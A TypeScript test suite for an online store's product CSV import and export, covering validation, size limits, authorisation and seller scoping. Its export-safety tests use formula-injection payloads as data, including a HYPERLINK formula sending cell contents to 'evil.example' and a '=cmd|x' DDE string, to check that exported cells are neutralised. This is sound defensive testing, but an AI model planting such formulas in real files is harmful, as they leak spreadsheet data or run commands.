import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createUser, type TestUser } from '../../../test/factories.ts';
import { createTestServer, type TestServer } from '../../../test/harness.ts';
import { http, inr } from '../../../test/kit/index.ts';
import { newId } from '../../platform/ids.ts';
import { formatAmount, parseAmount } from './catalog.csv.ts';

let server: TestServer;
let api: ReturnType<typeof http>;
let admin: TestUser;
let customer: TestUser;
let otherStore: string;
let otherAdmin: TestUser;

const HEADER =
  'Handle,Title,Body (HTML),Vendor,Product Category,Type,Tags,Published,Option1 Name,Option1 Value,Option2 Name,Option2 Value,Variant SKU,Variant Inventory Qty,Variant Price,Variant Compare At Price,Image Src,Image Position,Image Alt Text,SEO Title,SEO Description,Status';
const FILE = [
  HEADER,
  'classic-tee,Classic Tee,"<p>Soft, <b>cotton</b> tee</p>",Acme,Apparel > Tops,Shirts,"cotton, basics",TRUE,Size,S,Colour,Black,TEE-S-BLK,10,499.00,699.00,https://img.example/tee-1.jpg,1,Front,Classic Tee | Acme,Our best tee,active',
  'classic-tee,,,,,,,,,M,,Black,TEE-M-BLK,5,499.00,,https://img.example/tee-2.jpg,2,Back,,,',
  'classic-tee,,,,,,,,,L,,Black,TEE-L-BLK,-3,499.00,,,,,,,',
  'mug,Coffee Mug,Ceramic mug,MugCo,,,,TRUE,Title,Default Title,,,MUG-1,20,249.50,,,,,,,active',
  ',Orphan,,,,,,TRUE,,,,,ORPHAN-1,1,10.00,,,,,,,active',
  'bad-price,Bad Price,,,,,,TRUE,,,,,BP-1,1,-5,,,,,,,active',
  'Bad Handle!,Bad Handle,,,,,,TRUE,,,,,BH-1,1,5.00,,,,,,,active',
  'multi-line,"Multi',
  'Line Lamp","Two',
  'lines",Lumen,Home > Lighting,,,FALSE,,,,,LAMP-1,3,1299.99,,,,,,,draft',
  'dup-sku,Dup,,,,,,TRUE,,,,,TEE-S-BLK,1,10.00,,,,,,,active',
  'cheap-pen,Cheap Pen,,,,,,TRUE,,,,,PEN-1,1,0.123,,,,,,,active',
].join('\n');

function upload(body: string, headers: Record<string, string> = admin.headers) {
  return server.app.inject({
    method: 'POST',
    url: '/api/v1/admin/products/import',
    headers: { ...headers, 'content-type': 'text/csv' },
    payload: body,
  });
}

async function exportCsv(headers: Record<string, string> = admin.headers) {
  const res = await server.app.inject({ method: 'GET', url: '/api/v1/admin/products/export', headers });
  expect(res.statusCode).toBe(200);
  expect(res.headers['content-type']).toContain('text/csv');
  return res.body;
}

const MAX_BYTES = 64 * 1024;
const MAX_ROWS = 100;
let port: number;

beforeAll(async () => {
  server = await createTestServer({
    env: { CSV_IMPORT_MAX_BYTES: String(MAX_BYTES), CSV_IMPORT_MAX_ROWS: String(MAX_ROWS) },
  });
  api = http(server);
  [admin, customer] = await Promise.all([createUser(server, { roles: ['ADMIN'] }), createUser(server)]);
  otherStore = newId();
  const tenant = server.modules.tenancy.defaultStore().tenantId;
  await sql`INSERT INTO stores (id, tenant_id, name, status) VALUES (${otherStore}, ${tenant}, 'Other', 'PUBLISHED')`.execute(
    server.database.db,
  );
  otherAdmin = await createUser(server, { roles: ['ADMIN'], storeId: otherStore });
  await server.app.listen({ port: 0, host: '127.0.0.1' });
  port = (server.app.server.address() as AddressInfo).port;
});
afterAll(async () => server?.destroy());

describe('CSV import', () => {
  it('imports good rows and reports bad ones with line numbers and reasons', async () => {
    const res = await upload(FILE);
    expect(res.statusCode).toBe(200);
    const report = res.json();
    expect(report).toMatchObject({ rows: 10, created: 3, updated: 0, unchanged: 0 });
    const byLine = Object.fromEntries(
      report.errors.map((e: { line: number; reason: string }) => [e.line, e.reason]),
    );
    expect(
      Object.keys(byLine)
        .map(Number)
        .sort((a, b) => a - b),
    ).toEqual([4, 6, 7, 8, 12, 13]);
    expect(byLine[4]).toMatch(/Variant Inventory Qty/);
    expect(byLine[6]).toMatch(/Handle is required/);
    expect(byLine[7]).toMatch(/Variant Price/);
    expect(byLine[8]).toMatch(/Handle/);
    expect(byLine[12]).toMatch(/TEE-S-BLK belongs to another product/);
    expect(byLine[13]).toMatch(/decimal places/);

    const tee = (await api.get('/products/classic-tee')).json();
    expect(tee).toMatchObject({
      name: 'Classic Tee',
      description: '<p>Soft, <b>cotton</b> tee</p>',
      brand: 'Acme',
      productType: 'Shirts',
      tags: ['cotton', 'basics'],
      seoTitle: 'Classic Tee | Acme',
      breadcrumbs: [{ name: 'Apparel' }, { name: 'Tops' }],
      price: inr(49_900),
      compareAtPrice: inr(69_900),
      thumbnail: 'https://img.example/tee-1.jpg',
    });
    expect(tee.variants.map((v: { sku: string; options: object }) => [v.sku, v.options])).toEqual([
      ['TEE-S-BLK', { Size: 'S', Colour: 'Black' }],
      ['TEE-M-BLK', { Size: 'M', Colour: 'Black' }],
    ]);
    expect(tee.variants[0].offers[0].availableQuantity).toBe(10);
    expect(tee.images.map((i: { altText: string }) => i.altText)).toEqual(['Front', 'Back']);
    const mug = (await api.get('/products/mug')).json();
    expect(mug.variants[0]).toMatchObject({ sku: 'MUG-1', options: {} });
    expect(mug.price).toEqual(inr(24_950));
    const lamp = (await api.get('/admin/products?status=DRAFT', admin.headers)).json().items[0];
    expect(lamp).toMatchObject({ slug: 'multi-line', name: 'Multi\nLine Lamp' });
    expect((await api.get('/products/dup-sku')).statusCode).toBe(404);
  });

  it('changes nothing when the same file is imported again', async () => {
    const before = await sql`SELECT id, updated_at FROM products ORDER BY id`.execute(server.database.db);
    const report = (await upload(FILE)).json();
    expect(report).toMatchObject({ created: 0, updated: 0, unchanged: 3 });
    const after = await sql`SELECT id, updated_at FROM products ORDER BY id`.execute(server.database.db);
    expect(after.rows).toEqual(before.rows);
  });

  it('updates what a changed file changes', async () => {
    const changed = FILE.replace('Classic Tee,"<p>', 'Classic Tee II,"<p>').replace(
      'TEE-M-BLK,5,499.00',
      'TEE-M-BLK,5,459.00',
    );
    const report = (await upload(changed)).json();
    expect(report).toMatchObject({ created: 0, updated: 1, unchanged: 2 });
    const tee = (await api.get('/products/classic-tee')).json();
    expect(tee.name).toBe('Classic Tee II');
    expect(tee.price).toEqual(inr(45_900));
    await upload(FILE);
  });

  it('refuses a file that is not CSV and callers who are not staff', async () => {
    const broken = await upload(`${HEADER}\nx,"unterminated,,,\n`);
    expect(broken.statusCode).toBe(400);
    const noHeader = await upload('a,b\n1,2\n');
    expect(noHeader.statusCode).toBe(400);
    expect((await upload(FILE, customer.headers)).statusCode).toBe(403);
    expect((await upload(FILE, {})).statusCode).toBe(401);
  });
});

describe('CSV export', () => {
  it('writes a file that imports back identically', async () => {
    await api.post(
      '/admin/products',
      {
        name: 'Quote "Chair", deluxe',
        brand: 'Seat & Co',
        description: 'Line one,\nline two',
        variants: [
          {
            sku: 'CHAIR-OAK',
            options: { Wood: 'Oak' },
            price: inr(1_999_900),
            compareAtPrice: inr(2_499_900),
            stock: 2,
          },
          { sku: 'CHAIR-ASH', options: { Wood: 'Ash' }, price: inr(1_899_900) },
        ],
        images: [{ url: 'https://img.example/chair.jpg', altText: 'Chair, side' }],
      },
      admin.headers,
    );
    const first = await exportCsv();
    expect(first.split('\n')[0]).toContain('Handle,Title,Body (HTML),Vendor');
    // into the same store: nothing changes
    expect((await upload(first)).json()).toMatchObject({ created: 0, updated: 0, errors: [] });
    // into an empty store: the same products, exported the same way
    const inOther = { ...otherAdmin.headers, 'x-store-id': otherStore };
    const imported = (await upload(first, inOther)).json();
    expect(imported).toMatchObject({ created: 4, errors: [] });
    expect(await exportCsv(inOther)).toBe(first);
  });

  it('converts amounts exactly in both directions', () => {
    expect(parseAmount('19.99', 2, 'x')).toBe(1999);
    expect(parseAmount('0.1', 2, 'x')).toBe(10);
    expect(parseAmount('1250', 2, 'x')).toBe(125_000);
    expect(() => parseAmount('1250.50', 0, 'x')).toThrow();
    expect(parseAmount('1250.00', 0, 'x')).toBe(1250);
    expect(() => parseAmount('1.005', 2, 'x')).toThrow();
    expect(formatAmount(1999, 2)).toBe('19.99');
    expect(formatAmount(5, 2)).toBe('0.05');
    expect(formatAmount(125, 0)).toBe('125');
  });
});

/**
 * Sends the headers and the first 64 KiB of a body declared `length` bytes long, over a real
 * connection, and waits for the answer: a server that reads (buffers) the body first never answers,
 * because the rest of the body is never sent.
 */
function answerBeforeBody(
  pathname: string,
  headers: Record<string, string>,
  length: number,
  timeoutMs = 15_000,
): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    let answered = false;
    const req = httpRequest(
      {
        host: '127.0.0.1',
        port,
        method: 'POST',
        path: pathname,
        headers: { ...headers, 'content-length': String(length) },
      },
      (res) => {
        let body = '';
        res.on('data', (chunk) => (body += chunk));
        res.on('end', () => {
          answered = true;
          clearTimeout(timer);
          req.destroy();
          resolve({ status: res.statusCode!, body });
        });
      },
    );
    const timer = setTimeout(() => {
      req.destroy();
      reject(new Error(`no answer within ${timeoutMs} ms: the server waits for the body`));
    }, timeoutMs);
    req.on('error', (error) => {
      if (!answered) reject(error);
    });
    req.write(Buffer.alloc(64 * 1024, 'a'));
  });
}

describe('request bodies around the CSV import', () => {
  const MiB = 1024 * 1024;

  it('answers text/csv on any other route with 415 without reading the body', async () => {
    for (const route of ['/api/v1/me/addresses', '/api/v1/carts/x/checkout', '/api/v1/admin/products']) {
      const res = await answerBeforeBody(route, { 'content-type': 'text/csv', ...admin.headers }, 40 * MiB);
      expect(res.status, route).toBe(415);
      expect(JSON.parse(res.body)).toMatchObject({ status: 415 });
    }
  });

  it('refuses an anonymous import with 401, and a customer with 403, before reading the body', async () => {
    const route = '/api/v1/admin/products/import';
    expect((await answerBeforeBody(route, { 'content-type': 'text/csv' }, 10 * MiB)).status).toBe(401);
    const customerTry = await answerBeforeBody(
      route,
      { 'content-type': 'text/csv', ...customer.headers },
      10 * MiB,
    );
    expect(customerTry.status).toBe(403);
    const json = await answerBeforeBody(route, { 'content-type': 'application/json' }, 10 * MiB);
    expect(json.status).toBe(401);
  });

  it('takes no JSON on the import route (415), so its body limit does not open a larger JSON body', async () => {
    const res = await answerBeforeBody(
      '/api/v1/admin/products/import',
      { 'content-type': 'application/json', ...admin.headers },
      3 * MiB,
    );
    expect(res.status).toBe(415);
  });

  it('refuses a file over CSV_IMPORT_MAX_BYTES with 413, declared or streamed, importing nothing', async () => {
    const declared = await answerBeforeBody(
      '/api/v1/admin/products/import',
      { 'content-type': 'text/csv', ...admin.headers },
      MAX_BYTES + 1,
    );
    expect(declared.status).toBe(413);

    const rows = Array.from(
      { length: 90 },
      (_, i) => `big-${i},Big ${i},${'x'.repeat(900)},,,,,TRUE,,,,,BIG-${i},1,1.00,,,,,,,active`,
    );
    const body = [HEADER, ...rows].join('\n');
    expect(Buffer.byteLength(body)).toBeGreaterThan(MAX_BYTES);
    const streamed = await server.app.inject({
      method: 'POST',
      url: '/api/v1/admin/products/import',
      headers: { ...admin.headers, 'content-type': 'text/csv' },
      payload: Readable.from([body.slice(0, 30_000), body.slice(30_000)]),
    });
    expect(streamed.statusCode).toBe(413);
    expect(streamed.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect((await api.get('/products/big-0')).statusCode).toBe(404);
  });

  it('refuses a file of more than CSV_IMPORT_MAX_ROWS rows with 413, importing nothing', async () => {
    const rows = Array.from(
      { length: MAX_ROWS + 1 },
      (_, i) => `row-${i},Row ${i},,,,,,TRUE,,,,,ROW-${i},1,1.00,,,,,,,active`,
    );
    const res = await upload([HEADER, ...rows].join('\n'));
    expect(res.statusCode).toBe(413);
    expect(res.json().detail).toMatch(String(MAX_ROWS));
    expect((await api.get('/products/row-0')).statusCode).toBe(404);
    const fits = await upload([HEADER, ...rows.slice(0, 3)].join('\n'));
    expect(fits.json()).toMatchObject({ rows: 3, created: 3 });
  });
});

describe('CSV export safety', () => {
  const formulas = {
    name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    brand: '-Brand',
    description: '+1 234 567',
    tags: ['@SUM(1+1)', 'plain'],
    sku: '=cmd|x',
    option: '\tTabbed',
  };

  it('prefixes formula-leading cells with a quote, and an import takes the quote off again', async () => {
    const created = await api.post(
      '/admin/products',
      {
        name: formulas.name,
        brand: formulas.brand,
        description: formulas.description,
        tags: formulas.tags,
        variants: [{ sku: formulas.sku, options: { Style: '@risky' }, price: inr(10_000) }],
      },
      admin.headers,
    );
    expect(created.statusCode).toBe(201);
    const quoted = await api.post(
      '/admin/products',
      { name: "'=already quoted", variants: [{ sku: 'QUOTED-1', price: inr(10_000) }] },
      admin.headers,
    );
    expect(quoted.statusCode).toBe(201);

    const file = await exportCsv();
    const records = parse(file, { columns: true }) as Record<string, string>[];
    const row = records.find((r) => r['Variant SKU'] === `'${formulas.sku}`);
    expect(row).toMatchObject({
      Title: `'${formulas.name}`,
      Vendor: `'${formulas.brand}`,
      'Body (HTML)': `'${formulas.description}`,
      Tags: "'@SUM(1+1), plain",
      'Option1 Value': "'@risky",
    });
    for (const record of records) {
      for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(records.find((r) => r['Variant SKU'] === 'QUOTED-1')?.Title).toBe("''=already quoted");

    const inOther = { ...otherAdmin.headers, 'x-store-id': otherStore };
    expect((await upload(file, inOther)).json()).toMatchObject({ errors: [] });
    const slug = created.json().slug as string;
    const copy = (await api.get(`/products/${slug}`, { 'x-store-id': otherStore })).json();
    expect(copy).toMatchObject({
      name: formulas.name,
      brand: formulas.brand,
      description: formulas.description,
      tags: formulas.tags,
    });
    expect(copy.variants[0]).toMatchObject({ sku: formulas.sku, options: { Style: '@risky' } });
    const quotedCopy = (
      await api.get(`/products/${quoted.json().slug}`, { 'x-store-id': otherStore })
    ).json();
    expect(quotedCopy.name).toBe("'=already quoted");
  });

  it('gives a seller only its own products', async () => {
    const seller = await createUser(server, { roles: ['SELLER'] });
    const own = await api.post(
      '/admin/products',
      { name: 'Seller Own Lamp', variants: [{ sku: 'SELLER-OWN-1', price: inr(5_000) }] },
      seller.headers,
    );
    expect(own.statusCode).toBe(201);
    const records = parse(await exportCsv(seller.headers), { columns: true }) as Record<string, string>[];
    expect(records.map((r) => r.Handle)).toEqual([own.json().slug]);
    expect((await exportCsv()).split('\n').length).toBeGreaterThan(3);
  });
});
